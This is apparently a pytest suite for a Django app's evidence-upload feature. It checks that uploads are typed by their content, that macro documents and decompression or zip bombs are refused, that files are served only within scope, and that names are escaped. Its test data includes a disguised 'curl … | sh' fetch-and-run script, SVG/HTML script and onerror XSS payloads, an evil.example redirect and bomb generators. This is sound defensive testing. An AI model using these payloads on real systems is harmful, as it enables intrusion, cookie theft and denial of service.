"""Evidence uploads: files are judged by their content, stored through Django's storage, served only in scope."""

from __future__ import annotations

import datetime
import hashlib
import io
import os
import struct
import subprocess
import sys
import zipfile
import zlib
from urllib.parse import quote

import pytest
from django.conf import settings as django_settings
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from districts.models import AuditEntry, Community, Department, District
from reporting.models import Campaign
from reporting.reports.evidence_views import evidence_target_id
from reporting.reports.services import report_open, report_save, report_submit
from reporting.services import enrolment_enrol
from standards.evidence import EvidenceError, evidence_add, evidence_check, evidence_for, evidence_remove
from standards.models import Evidence, StandardItem

pytestmark = pytest.mark.django_db
D = datetime.date
OWN_STREET = "120101001"
NOT_ACCEPTED = "不是平台接受的文件类型"


# --- files made in the test --------------------------------------------------------------------------


def image_bytes(fmt: str, size=(40, 30), color=(30, 120, 60), **save) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, fmt, **save)
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_png(side: int) -> bytes:
    """A black-and-white PNG of side × side pixels: kilobytes on disk, hundreds of megabytes once decoded."""
    row = b"\x00" * (1 + (side + 7) // 8)
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/{part}" ContentType="{type}"/></Types>'
)


def office_bytes(part: str, main_type: str, extra: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", CONTENT_TYPES.format(part=part, type=main_type))
        package.writestr("_rels/.rels", "<Relationships/>")
        package.writestr(part, "<document>绿色社区</document>")
        for name, data in (extra or {}).items():
            package.writestr(name, data)
    return out.getvalue()


def docx_bytes(**kwargs) -> bytes:
    return office_bytes(
        "word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        **kwargs,
    )


PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
OLE = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(2048)


def upload(name: str, data: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


# --- fixtures ------------------------------------------------------------------------------------------


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def stored_files(media) -> list:
    return sorted(p for p in media.rglob("*") if p.is_file()) if media.exists() else []


@pytest.fixture
def heping():
    return District.objects.get(code="120101")


@pytest.fixture
def report(heping, heping_staff):
    campaign = Campaign.objects.current()
    communities = list(Community.objects.filter(street__code=OWN_STREET).order_by("code")[:3])
    enrolment_enrol(campaign=campaign, communities=communities, kind="pilot", joined_on=D(2021, 1, 10), by=heping_staff)
    return report_open(campaign=campaign, kind="monthly", period=D(2021, 3, 1), district=heping, by=heping_staff)


@pytest.fixture
def own_community():
    return Community.objects.filter(street__code=OWN_STREET).order_by("code").first()


@pytest.fixture
def other_street_community():
    return Community.objects.filter(district__code="120101").exclude(street__code=OWN_STREET).order_by("code").first()


def refused(media, upload_file, heping_staff, heping, match: str) -> str:
    with pytest.raises(EvidenceError) as caught:
        evidence_add(upload=upload_file, by=heping_staff, district=heping)
    assert match in caught.value.message
    assert not Evidence.objects.exists()
    assert stored_files(media) == []
    return caught.value.message


# --- what is accepted -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "kind", "content_type", "stored_name"),
    [
        ("照片.jpg", image_bytes("JPEG"), "image", "image/jpeg", "照片.jpg"),
        ("照片.JPEG", image_bytes("JPEG"), "image", "image/jpeg", "照片.jpeg"),
        ("照片.png", image_bytes("PNG"), "image", "image/png", "照片.png"),
        ("照片.webp", image_bytes("WEBP"), "image", "image/webp", "照片.webp"),
        # The browser said JPEG and so did the name; the content says PNG, and that is what is kept.
        ("误标.jpg", image_bytes("PNG"), "image", "image/png", "误标.png"),
        ("方案.pdf", PDF, "pdf", "application/pdf", "方案.pdf"),
        (
            "台账.docx",
            docx_bytes(),
            "office",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            "台账.docx",
        ),
        (
            "台账.xlsx",
            office_bytes(
                "xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
            ),
            "office",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            "台账.xlsx",
        ),
        ("旧台账.xls", OLE, "office", "application/vnd.ms-excel", "旧台账.xls"),
    ],
)
def test_accepted_files_are_stored_with_the_type_their_content_shows(
    media, heping, heping_staff, name, data, kind, content_type, stored_name
):
    evidence = evidence_add(upload=upload(name, data, "image/jpeg"), by=heping_staff, district=heping, caption=" 入户 ")
    evidence.refresh_from_db()
    assert (evidence.kind, evidence.content_type, evidence.original_name) == (kind, content_type, stored_name)
    assert evidence.size == len(data) and evidence.caption == "入户"
    assert evidence.sha256 == hashlib.sha256(data).hexdigest()
    assert evidence.file.name.startswith("evidence/120101/") and evidence.file.name.endswith(
        "." + stored_name.rsplit(".")[-1].lower()
    )
    with evidence.file.open("rb") as stored:
        assert stored.read() == data
    assert bool(evidence.thumbnail) == (kind == "image")
    assert len(stored_files(media)) == (2 if kind == "image" else 1)
    entry = AuditEntry.objects.get(content_type__model="evidence", object_id=str(evidence.pk))
    assert entry.action == "create" and entry.district_id == heping.pk and entry.actor == heping_staff
    assert entry.changes["original_name"] == [None, stored_name]


def test_the_thumbnail_is_a_small_webp_turned_the_way_the_camera_was_held(media, heping, heping_staff):
    exif = Image.Exif()
    exif[0x0112] = 6  # the camera was turned a quarter: the picture is stored lying on its side
    photo = image_bytes("JPEG", size=(1000, 500), exif=exif)
    evidence = evidence_add(upload=upload("门洞.jpg", photo), by=heping_staff, district=heping)
    with evidence.thumbnail.open("rb") as stored, Image.open(stored) as thumbnail:
        assert thumbnail.format == "WEBP"
        assert thumbnail.size == (160, 320)
    assert evidence.thumbnail.name.startswith("evidence/thumbnails/")


def test_a_community_gives_the_file_its_district(media, heping_staff, own_community, heping):
    evidence = evidence_add(
        upload=upload("a.pdf", PDF),
        by=heping_staff,
        community=own_community,
        item=StandardItem.objects.get(number=3),
    )
    assert evidence.district == heping and evidence.item.number == 3
    assert AuditEntry.objects.get(content_type__model="evidence").district_id == heping.pk


# --- what is refused ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("照片.jpg", b"#!/bin/sh\ncurl http://example.invalid | sh\n", NOT_ACCEPTED),
        (
            "logo.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
            NOT_ACCEPTED,
        ),
        ("logo.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', NOT_ACCEPTED),
        ("通知.pdf", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", NOT_ACCEPTED),
        ("setup.docx", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(200), NOT_ACCEPTED),
        ("archive.docx", b"PK\x03\x04" + bytes(10), "无法读取该文档"),
    ],
)
def test_scripts_pages_and_programs_are_refused_whatever_their_name(media, heping, heping_staff, name, data, expected):
    refused(media, upload(name, data, "image/jpeg"), heping_staff, heping, expected)


def test_a_refusal_names_the_accepted_types_in_chinese(media, heping, heping_staff):
    message = refused(media, upload("照片.jpg", b"<script>x</script>"), heping_staff, heping, NOT_ACCEPTED)
    assert "照片.jpg" in message
    for kind in ("JPEG", "PNG", "WEBP", "PDF", "Word", "Excel", "PowerPoint"):
        assert kind in message


def test_a_plain_zip_is_not_an_office_document(media, heping, heping_staff):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("readme.txt", "hello")
    refused(media, upload("资料.docx", out.getvalue()), heping_staff, heping, NOT_ACCEPTED)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("宏.docm", docx_bytes(extra={"word/vbaProject.bin": b"\x00" * 64})),
        (
            "宏.xlsm",
            office_bytes(
                "xl/workbook.xml",
                "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                extra={"xl/vbaProject.bin": b"\x00" * 64},
            ),
        ),
        # The macro is gone but the package still declares itself macro-enabled.
        ("宏.docx", office_bytes("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")),
        ("宏.doc", OLE + "_VBA_PROJECT".encode("utf-16-le") + bytes(64)),
    ],
)
def test_documents_with_macros_are_refused(media, heping, heping_staff, name, data):
    refused(media, upload(name, data), heping_staff, heping, "含宏")


def test_an_old_office_file_must_be_named_as_one(media, heping, heping_staff):
    refused(media, upload("说明.pdf", OLE), heping_staff, heping, ".doc")


def test_a_file_over_the_size_limit_is_refused(media, settings, heping, heping_staff):
    settings.EVIDENCE_MAX_BYTES = 1000
    message = refused(media, upload("大.pdf", PDF + bytes(1200)), heping_staff, heping, "大.pdf")
    assert "1000" in message or "1.0" in message  # the limit, as filesizeformat writes it


def test_an_empty_file_is_refused(media, heping, heping_staff):
    refused(media, upload("空.pdf", b""), heping_staff, heping, "空")


@pytest.mark.parametrize("side", [20000, 9000])
def test_a_decompression_bomb_photo_is_refused(media, heping, heping_staff, side):
    bomb = huge_png(side)
    assert len(bomb) < 200_000  # small on disk: only decoding would hurt
    refused(media, upload("炸弹.png", bomb), heping_staff, heping, "像素")


def test_a_zip_bomb_document_is_refused(media, heping, heping_staff):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", CONTENT_TYPES.format(part="word/document.xml", type="x"))
        package.writestr("word/document.xml", "<document/>")
        with package.open("word/media/image1.png", "w", force_zip64=True) as member:
            chunk = bytes(1024 * 1024)
            for _ in range(210):
                member.write(chunk)
    assert len(out.getvalue()) < 1_000_000
    refused(media, upload("炸弹.docx", out.getvalue()), heping_staff, heping, "解压后超过")


def test_a_document_with_too_many_parts_is_refused(media, heping, heping_staff):
    extra = {f"word/media/p{n}.xml": b"" for n in range(5001)}
    refused(media, upload("碎.docx", docx_bytes(extra=extra)), heping_staff, heping, "部件过多")


def test_a_damaged_photo_is_refused(media, heping, heping_staff):
    photo = image_bytes("PNG", size=(200, 200))
    damaged = photo[:60] + bytes(40) + photo[100:]
    refused(media, upload("坏.png", damaged), heping_staff, heping, "无法读取")
    truncated = image_bytes("JPEG", size=(400, 400), color=(200, 10, 10), quality=95)
    refused(media, upload("半.jpg", truncated[: len(truncated) // 3]), heping_staff, heping, "无法读取")


def test_nothing_is_left_in_storage_when_the_row_cannot_be_written(media, heping):
    unsaved = get_user_model()(username="never-saved")
    with pytest.raises(ValueError):
        evidence_add(upload=upload("照片.png", image_bytes("PNG")), by=unsaved, district=heping)
    assert not Evidence.objects.exists()
    assert stored_files(media) == []


def test_the_check_does_not_trust_the_name_or_browser(media):
    assert evidence_check(upload("x.exe", image_bytes("WEBP"), "application/x-msdownload")) == (
        "image",
        "image/webp",
        "webp",
    )


# --- removal and lookup ---------------------------------------------------------------------------------


def test_removal_hides_the_file_keeps_it_stored_and_is_audited(media, heping, heping_staff, report):
    evidence = evidence_add(upload=upload("a.pdf", PDF), by=heping_staff, district=heping, owner=report)
    assert list(evidence_for(report)) == [evidence]
    evidence_remove(evidence=evidence, by=heping_staff)
    assert list(evidence_for(report)) == []
    evidence.refresh_from_db()
    assert evidence.removed_by == heping_staff and evidence.removed_at is not None
    assert len(stored_files(media)) == 1
    entry = AuditEntry.objects.filter(content_type__model="evidence", action="update").get()
    assert entry.changes["removed_at"][0] is None
    with pytest.raises(EvidenceError):
        evidence_remove(evidence=evidence, by=heping_staff)


# --- the upload and remove views -------------------------------------------------------------------------


def test_district_staff_upload_to_their_own_report(media, client_for, heping_staff, report, own_community):
    client = client_for(heping_staff)
    next_url = reverse("report_detail", args=[report.pk]) + "?tab=rows"
    response = client.post(
        reverse("evidence_upload", args=[report.pk]),
        {
            "file": upload("入户宣传.jpg", image_bytes("JPEG")),
            "community": own_community.code,
            "item": "3",
            "caption": "宣传活动",
            "next": next_url,
        },
    )
    assert response.status_code == 302 and response["Location"] == next_url
    evidence = Evidence.objects.get()
    assert (evidence.owner, evidence.district, evidence.community, evidence.item.number) == (
        report,
        report.district,
        own_community,
        3,
    )
    assert evidence.uploaded_by == heping_staff and evidence.caption == "宣传活动"
    assert len(stored_files(media)) == 2


def test_an_unsafe_next_address_falls_back_to_the_report(media, client_for, heping_staff, report):
    response = client_for(heping_staff).post(
        reverse("evidence_upload", args=[report.pk]),
        {"file": upload("a.pdf", PDF), "next": "https://evil.example/phish"},
    )
    assert response.status_code == 302 and response["Location"] == report.get_absolute_url()


def test_a_forged_community_of_another_district_is_refused(media, client_for, heping_staff, report):
    hexi_community = Community.objects.filter(district__code="120103").first()
    response = client_for(heping_staff).post(
        reverse("evidence_upload", args=[report.pk]),
        {"file": upload("a.pdf", PDF), "community": hexi_community.code},
    )
    assert response.status_code == 400
    assert hexi_community.code in response.content.decode() and "和平区" in response.content.decode()
    assert not Evidence.objects.exists() and stored_files(media) == []


def test_a_community_without_a_row_in_the_report_takes_no_file(
    media, client_for, heping_staff, report, other_street_community
):
    """Issue 14 item 8: a community's file belongs to its row and is read by those who may read the row, so a file
    for a community the report has no row for would belong to nothing anyone reads."""
    response = client_for(heping_staff).post(
        reverse("evidence_upload", args=[report.pk]),
        {"file": upload("a.pdf", PDF), "community": other_street_community.code},
    )
    assert response.status_code == 400
    assert f"{other_street_community.name}不在本报告的社区列表中" in response.content.decode()
    assert not Evidence.objects.exists() and stored_files(media) == []


def test_an_unknown_item_is_refused(media, client_for, heping_staff, report):
    response = client_for(heping_staff).post(
        reverse("evidence_upload", args=[report.pk]), {"file": upload("a.pdf", PDF), "item": "17"}
    )
    assert response.status_code == 400 and "17" in response.content.decode()
    assert not Evidence.objects.exists()


def test_street_staff_attach_only_to_their_own_streets_communities(
    media, client_for, heping_street_staff, report, own_community, other_street_community
):
    client = client_for(heping_street_staff)
    url = reverse("evidence_upload", args=[report.pk])
    response = client.post(url, {"file": upload("a.pdf", PDF), "community": other_street_community.code})
    assert response.status_code == 403
    response = client.post(url, {"file": upload("a.pdf", PDF)})  # the report as a whole is the district's
    assert response.status_code == 403
    assert not Evidence.objects.exists() and stored_files(media) == []
    response = client.post(url, {"file": upload("a.pdf", PDF), "community": own_community.code})
    assert response.status_code == 302
    assert Evidence.objects.get().community == own_community


def test_another_districts_staff_cannot_see_the_report(media, client_for, hexi_staff, report):
    response = client_for(hexi_staff).post(reverse("evidence_upload", args=[report.pk]), {"file": upload("a.pdf", PDF)})
    assert response.status_code == 404
    assert not Evidence.objects.exists()


def test_a_submitted_report_takes_no_files(media, client_for, heping_staff, report):
    report = report_save(report=report, version=report.version, data={"progress": "完成摸底"}, by=heping_staff)
    report_submit(report=report, by=heping_staff)
    response = client_for(heping_staff).post(
        reverse("evidence_upload", args=[report.pk]), {"file": upload("a.pdf", PDF)}, headers={"HX-Request": "true"}
    )
    assert response.status_code == 200
    assert "草稿" in response.content.decode() and 'type="file"' not in response.content.decode()
    assert not Evidence.objects.exists()


def test_an_htmx_upload_returns_the_box_with_the_new_file(media, client_for, heping_staff, report, own_community):
    response = client_for(heping_staff).post(
        reverse("evidence_upload", args=[report.pk]),
        {
            "file": upload("活动<img src=x onerror=alert(1)>.png", image_bytes("PNG")),
            "community": own_community.code,
            "target": "ev-row-" + own_community.code,
        },
        headers={"HX-Request": "true"},
    )
    body = response.content.decode()
    evidence = Evidence.objects.get()
    assert response.status_code == 200 and response["HX-Trigger"] == "evidence-changed"
    assert body.startswith(f'<div id="ev-row-{own_community.code}"')
    assert "活动&lt;img src=x onerror=alert(1)&gt;.png" in body and "<img src=x" not in body
    assert evidence.thumbnail_url in body and 'loading="lazy"' in body
    assert reverse("evidence_remove", args=[report.pk, evidence.public_id]) in body
    assert f'name="community" value="{own_community.code}"' in body


def test_an_htmx_refusal_is_shown_inside_the_box(media, client_for, heping_staff, report):
    response = client_for(heping_staff).post(
        reverse("evidence_upload", args=[report.pk]),
        {"file": upload("x.jpg", b"<script>alert(1)</script>")},
        headers={"HX-Request": "true"},
    )
    body = response.content.decode()
    assert response.status_code == 200 and "HX-Trigger" not in response
    assert body.startswith(f'<div id="{evidence_target_id()}"') and NOT_ACCEPTED in body
    assert not Evidence.objects.exists()


def test_removing_through_htmx_takes_the_file_out_of_the_box(media, client_for, heping_staff, report):
    evidence = evidence_add(upload=upload("留存.pdf", PDF), by=heping_staff, district=report.district, owner=report)
    response = client_for(heping_staff).post(
        reverse("evidence_remove", args=[report.pk, evidence.public_id]),
        {"target": "ev-report"},
        headers={"HX-Request": "true"},
    )
    assert response.status_code == 200 and response.content.decode().startswith('<div id="ev-report"')
    assert "留存.pdf" not in response.content.decode()
    evidence.refresh_from_db()
    assert evidence.removed_at is not None and len(stored_files(media)) == 1


def test_street_staff_cannot_remove_another_streets_file(
    media, client_for, heping_staff, heping_street_staff, report, other_street_community
):
    evidence = evidence_add(
        upload=upload("a.pdf", PDF), by=heping_staff, community=other_street_community, owner=report
    )
    response = client_for(heping_street_staff).post(reverse("evidence_remove", args=[report.pk, evidence.public_id]))
    assert response.status_code == 404  # out of the street's sight altogether
    evidence.refresh_from_db()
    assert evidence.removed_at is None


def test_department_staff_attach_files_to_their_annual_report_but_not_to_communities(
    media, client_for, department_staff, own_community
):
    department = Department.objects.get(code="zjw")
    annual = report_open(
        campaign=Campaign.objects.current(),
        kind="annual",
        period=D(2021, 1, 1),
        department=department,
        by=department_staff,
    )
    client = client_for(department_staff)
    url = reverse("evidence_upload", args=[annual.pk])
    response = client.post(url, {"file": upload("a.pdf", PDF), "community": own_community.code})
    assert response.status_code == 400 and "部门报告" in response.content.decode()
    assert not Evidence.objects.exists()
    assert client.post(url, {"file": upload("年度总结.pdf", PDF)}).status_code == 302
    evidence = Evidence.objects.get()
    assert (evidence.department, evidence.district, evidence.owner) == (department, None, annual)
    assert evidence.file.name.startswith("evidence/zjw/")


def test_the_admin_lists_evidence_but_cannot_change_it(media, client_for, commission_admin, heping_staff, heping):
    evidence = evidence_add(upload=upload("台账照片.png", image_bytes("PNG")), by=heping_staff, district=heping)
    client = client_for(commission_admin)
    response = client.get("/admin/standards/evidence/")
    assert response.status_code == 200 and "台账照片.png" in response.content.decode()
    response = client.get(f"/admin/standards/evidence/{evidence.pk}/change/")
    assert evidence.get_absolute_url() in response.content.decode()
    assert client.get("/admin/standards/evidence/add/").status_code == 403


# --- serving files --------------------------------------------------------------------------------------


def _body(response) -> bytes:
    # Reading to the end closes the file (the test client wraps the stream); closing again would end the request
    # a second time and close the test's database connection.
    return b"".join(response.streaming_content)


def test_documents_download_as_attachments_with_their_chinese_name(media, client_for, heping_staff, report):
    evidence = evidence_add(upload=upload("社区方案.pdf", PDF), by=heping_staff, district=report.district, owner=report)
    response = client_for(heping_staff).get(evidence.get_absolute_url())
    assert response.status_code == 200 and _body(response) == PDF
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == f"attachment; filename*=utf-8''{quote('社区方案.pdf')}"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "private" in response["Cache-Control"]


def test_photos_and_thumbnails_open_inline(media, client_for, heping_staff, report):
    photo = image_bytes("PNG")
    evidence = evidence_add(upload=upload("门前.png", photo), by=heping_staff, district=report.district, owner=report)
    client = client_for(heping_staff)
    response = client.get(evidence.get_absolute_url())
    assert _body(response) == photo and response["Content-Disposition"].startswith("inline;")
    response = client.get(evidence.thumbnail_url)
    assert response["Content-Type"] == "image/webp" and response["Content-Disposition"].startswith("inline;")
    assert _body(response)[8:12] == b"WEBP"
    assert response["X-Content-Type-Options"] == "nosniff"


def test_files_are_served_only_within_scope(
    media, client, client_for, heping_staff, hexi_staff, department_staff, report
):
    evidence = evidence_add(upload=upload("a.pdf", PDF), by=heping_staff, district=report.district, owner=report)
    url = evidence.get_absolute_url()
    response = client.get(url)
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))
    thumbnail_url = reverse("evidence_thumbnail", args=[evidence.public_id])
    assert client_for(hexi_staff).get(url).status_code == 404
    assert client_for(hexi_staff).get(thumbnail_url).status_code == 404
    # A department reads its own reports only, and so their files (Issue 14 item 8).
    assert client_for(department_staff).get(url).status_code == 404
    response = client_for(heping_staff).get(url)
    assert response.status_code == 200 and _body(response) == PDF
    # A document has no thumbnail.
    assert evidence.thumbnail_url == ""
    assert client_for(heping_staff).get(thumbnail_url).status_code == 404
    evidence_remove(evidence=evidence, by=heping_staff)
    assert client_for(heping_staff).get(url).status_code == 404


def test_the_box_id_the_report_page_uses_is_the_default():
    assert evidence_target_id() == "ev-report"
    assert evidence_target_id("120101001001") == "ev-row-120101001001"
    assert evidence_target_id("120101001001", 3) == "ev-row-120101001001-item-3"


# --- storage setting ------------------------------------------------------------------------------------


def test_a_bucket_in_the_environment_switches_storage_to_s3_without_contacting_it():
    environment = {k: v for k, v in os.environ.items() if not k.startswith(("STORAGE_S3_", "DATABASE_URL"))}
    environment.update(
        STORAGE_S3_BUCKET="evidence",
        STORAGE_S3_ENDPOINT_URL="http://127.0.0.1:9",
        STORAGE_S3_ACCESS_KEY="key-id",
        STORAGE_S3_SECRET_KEY="key-secret",
        STORAGE_S3_REGION="cn-north-1",
    )
    code = (
        "import os, django; os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'greencommunity.settings'); django.setup()\n"
        "from django.conf import settings\n"
        "from django.core.files.storage import default_storage as s\n"
        "o = settings.STORAGES['default']['OPTIONS']\n"
        "print(settings.STORAGES['default']['BACKEND'])\n"
        "print(type(s._wrapped).__name__ if s.bucket_name else '', s.bucket_name, s.endpoint_url, s.region_name, s.querystring_auth, s.file_overwrite, s.default_acl, o['access_key'])\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", code],
        cwd=django_settings.BASE_DIR,
        env=environment,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert out.returncode == 0, out.stderr
    first, second = out.stdout.splitlines()
    assert first.split()[0] == "storages.backends.s3.S3Storage"
    assert second.split() == [
        "S3Storage",
        "evidence",
        "http://127.0.0.1:9",
        "cn-north-1",
        "True",
        "False",
        "None",
        "key-id",
    ]


def test_a_cut_off_photo_is_refused_even_where_truncated_images_are_allowed(media, heping, heping_staff, monkeypatch):
    """WeasyPrint turns on Pillow's LOAD_TRUNCATED_IMAGES for the whole process when it is imported."""
    from PIL import ImageFile

    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    truncated = image_bytes("JPEG", size=(400, 400), color=(200, 10, 10), quality=95)
    refused(media, upload("半.jpg", truncated[: len(truncated) // 3]), heping_staff, heping, "无法读取")
    assert ImageFile.LOAD_TRUNCATED_IMAGES is True  # the process-wide setting is left as it was
